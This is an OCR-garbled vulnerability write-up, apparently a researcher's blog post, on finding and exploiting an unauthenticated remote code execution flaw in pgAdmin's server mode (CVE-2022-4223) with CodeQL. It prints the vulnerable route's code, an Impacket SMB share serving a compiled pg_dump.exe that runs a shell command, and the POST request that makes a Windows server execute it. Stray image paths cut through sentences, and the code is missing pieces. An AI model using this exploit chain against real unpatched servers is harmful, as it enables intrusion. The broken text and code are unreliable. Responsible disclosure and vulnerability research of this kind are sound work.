This write-up won’t be an intense discussion on security code review techniques this time. We’ll simply let do all the hard work by a third party: CodeQL.

Our target? pgAdmin. Or to be more precise, the web interface if you run pgAdmin in server mode. For the ones of you who don’t know pgAdmin yet, have a look at their website.

pgAdmin is the most popular and feature rich Open Source administration and development platform for PostgreSQL, the most advanced Open Source database in the world.

This statement from their website is true, indeed. I used this tool already many years ago in my software development career path. But I didn’t know that it’s possible to run this “client” program in a kind of server mode. Maybe you’ve already seen these kinds of login screens somewhere?


There is a nicely written introduction by the pgAdmin team on how to setup such a server quickly.

pgAdmin may be deployed as a web application by configuring the app to run in server mode and then deploying it either behind a webserver running as a reverse proxy, or using the WSGI interface.Alright then: we know how to setup this kind of thing and also that’s it’s quite common to find these on the public Internet (and Intranet I guess).

Since I’m looking at many different products on a daily basis at work, sometimes different approaches are needed to get a first idea on the degree of “resilience” with respect to vulnerability discovery. One of my many approaches takes into account CodeQL, a “semantic code analysis engine”. I don’t want to try giving you a proper introduction into CodeQL (I don’t think I can) but rather give you a step-by-step tutorial on how this was used for attacking the pgAdmin code.

CodeQL needs a database containing the code in a structured format depending on the targeted language. For Java e.g. one has to let the CodeQL engine be part of your compilation process. Looking at the pgAdmin GitHub project, we spot the main language being Python. Luckily, CodeQL supports this language as well. Since will be shut down this month, fetching ready-to-go CodeQL databases from this platform won’t be an option anymore. But good for us, the CodeQL team provides a ton of great documentation such as one for creating such databases. I love to look at code with Visual Studio Code which has a support for the CodeQL engine!

So let’s install the extension first.


A new button on the left side of your sidebar will appear named QL. Next we fetch the latest version6.16 of pgAdmin (at the time of the vulnerability discovery) from the GitHub project. We immmediately recognize the web directory with multiple Python files, part of the web application we’ll talk about later.

If your installation of the CodeQL extension finished properly, you’ll find the CodeQL CLI file at some location like $HOME/.config/Code/User/globalStorage/github.vscode-codeql/distribution2/codeql/codeql. Executing this file will give you the help. Set an alias, adjust your .bashrc or whatever fits your comfort needs.

Usage: codeql <command> <argument>...
Create and query CodeQL databases, or work with the QL language.

You’re all set to create your CodeQL database now!

$ codeql database create pgadmincodeql --language=python
Initializing database at $HOME/pgAdmin/pgadmin4-REL-6_16/pgadmincodeql.
Running build command: []
Finalizing database at $HOME/pgAdmin/pgadmin4-REL-6_16/pgadmincodeql.
Successfully created database at $HOME/pgAdmin/pgadmin4-REL-6_16/pgadmincodeql

And indeed the new directory pgadmincodeql was successfully created. Easy, wasn’t it?Now, we’ve to bring this database into our VS Code workspace using the QL menu.


Choose the newly created folder and the database will appear in VS Code magically. Then you’ve to set it as default by clicking on it until a grey mark is shown. You’re ready to use the database!

Before we can execute cool CodeQL queries, the gifts from the busy GitHub CodeQL team/community is needed. So clone the official CodeQL GitHub repository into your workspace. Ready to find the Pre-Auth Remote Code Execution (RCE) with just a few clicks?

Find the flaw - CodeQL

So I didn’t lie on finding the flaw in under 20 minutes. This included downloading the pgAdmin source, installing the VS Code extension, creating the CodeQL database, cloning the CodeQL GitHub repository and startingonly one pre-built CodeQL query.

So, we imported the CodeQL database into our VS Code workspace. Now let’s get straight to the meat without even going to do any application mapping and other useful things typically expected during a security code review.

In the VS Code Explorer, the CodeQL GitHub project is visible and we drill down to codeql/python/ql/src/Security. There you’ll find all the crazy stuff people did to provide intelligent queries against your database. We’re especially interested in queries which

  1. Allow to cover a lot of dangerous sinks at once.
  2. Include the tainted analyses spirit, i.e. instead of “just” showing potential dangerous sinks, also give us information if and how a sink can be reached from a reachable source.

codeql/python/ql/src/Security/CWE-020-ExternalAPIs/UntrustedDataToExternalAPI.ql will be a good start. Let’s try this by opening this file and then simply hit CodeQL: Run query. This will take some time, grab a coffee…are you back? Let’s see what the result was.Wow, that’s a lot of stuff! Since you might know me from former blog posts: I’m lazy, i.e. often searching for the most obvious attack path first.

The subprocess.getoutput( ) sink perfectly matches my taste.


Indeed, CodeQL did a great job. It “realized” that the request from the flask Python library is used here. This is used all over the code to e.g. read from and doing stuff with it. Let’s have a closer look to the sink function.

                 methods=["POST"]) # [1]
def validate_binary_path():
    This function is used to validate the specified utilities path by
    running the utilities with there versions.
    data = None
    if hasattr(, 'decode'):
        data ='utf-8')if data != '':
        data = json.loads(data)

    version_str = ''
    if 'utility_path' in data and data['utility_path'] is not None: # [2]
        # Check if "$DIR" present in binary path
        binary_path = replace_binary_path(data['utility_path']) # [3]

        for utility in UTILITIES_ARRAY: # [4]
            full_path = os.path.abspath((utility if != 'nt' else
                              (utility + '.exe')))) # [5]

                # Get the output of the '--version' command
                version_string = \
                    subprocess.getoutput('"{0}" --version'.format(full_path)) # [6]
                # Get the version number by splitting the result string
                version_string.split(") ", 1)[1].split('.', 1)[0]

At [1] the HTTP route handler is defined with /validate_binary_path being the corresponding URI part to trigger the code. We expect this to come in as POST request. is read and at [2] the utility_path POST body parameter is processed within an if block. We don’t really care about the function at [3], you might check yourself “why”. But at [4] a constant named UTILITIES_ARRAY seems to heavily restrict our final input later flowing into the subprocess call. tells us that UTILITIES_ARRAY = ['pg_dump', 'pg_dumpall', 'pg_restore', 'psql']. Fine, but at [5] we still control the now named binary_path variable, right? We control the pathbut not the file name being executed in the dangerous final sink at [6]. Also you might have observed that the flask_login module provides a @login_required annotation (check other routes of the web app) to check for an authenticated context. This is missing here, so we should at least be able to reach this route from an unauthenticated context. You can indeed!

But you know, this is Python and the Server mode setup guide mentioned in the beginning also describes an installation on Windows. I won’t go into a detailed step-by-step guide to install pgAdmin in Server mode on Windows because this took me over 3 hours and would make my blog post title obsolet *cough*.

If your patient enough, you could try to use your Python CLI on Windows to check what happens after using an UNC path to a remote share in the os.path.abspath(os.path.join(...)) construct. Guess what, it will work as expected and the file would have been retrieved, read, called, whatever.

Let’s try this by setting up an SMB server on our Linux attacker machine using the famous Impacket suite.

./ myshare $HOME/tmp

In my tmp directory I create a file named after a randomly chosen entry from the list UTILITIES_ARRAY, e.g. pg_dump[.exe]. Well, not totally random content, we want to do it right the first time. So let’s create an .exe using the mingw cross-compiler and pg_dump.c like this.

void main() {
 system("cmd.exe /K mspaint");

Now POST /misc/validate_binary_path HTTP/1.1 should trigger the vulnerable code path. Depending on your pgAdmin Windows installation, you’ve to fetch a Cookie and CSRF-token first from either browsing to /, /login or /browser. It’s possible for any installation type, so we just assume you were able toretrieve the content for the X-pgA-CSRFToken header for now. The final payload looks like this.

POST /misc/validate_binary_path HTTP/1.1
Connection: close
Referer: https://[TARGETHOST]/browser/
Content-Length: [n]
Content-Type: application/json

After firing the payload, we see an incoming SMB connection at our attacker machine, retrieving the file(s) pg_dump.exe: Pre-Auth RCE achieved.



The pgAdmin team assigned CVE-2022-4223 and released a new version 6.17 quickly. Kudos to them andtheir kind communication. I’m proud also that they now improved their disclosure process by adding more information on their GitHub project and also discuss the creation of aAlright, unauthenticated context for an attacker: killed. But in my opinion, the same exploit should still work from an authenticated context.

Final Thoughts

You might think: well, this was easy. Yeeesss, it was and everbody could have done it for sure. Use the tools and knowledge of all the bright people in infosec to help you through your journey of finding critical vulnerabilities. But please also have a deeper look into CodeQL first. From my experience, this was a total showcase, i.e. you might write your own queries and understand possible source APIs of your target applicationfirst before achieving any meaningful results. There exist some awesome workshops even with videos by thetalented Alvaro Muñoz aka pwntester. I can also highly recommend the workshop videos “Finding securityvulnerabilities in Java withCodeQL”. There is so muchmore: search and profit!